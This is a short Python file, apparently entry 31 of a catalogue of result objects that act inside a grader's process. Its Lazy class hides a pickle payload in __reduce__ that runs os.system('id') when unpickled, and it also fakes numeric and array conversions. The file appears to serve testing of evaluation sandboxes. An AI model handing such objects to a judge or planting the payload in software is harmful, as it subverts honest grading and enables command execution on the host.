"""Catalogue: 31. Results that would do their work only in the judge's process."""
import numpy as np


class Lazy:
    def __init__(self, value):
        self.value = value

    def __array__(self, *args, **kwargs):
        print("made")
        return np.asarray(self.value)

    def __iter__(self):
        return iter(self.value)

    def __reduce__(self):
        return eval, ("__import__('os').system('id')",)

    __index__ = __int__ = __len__ = lambda self: int(self.value)


def dress(value):
    return Lazy(value)
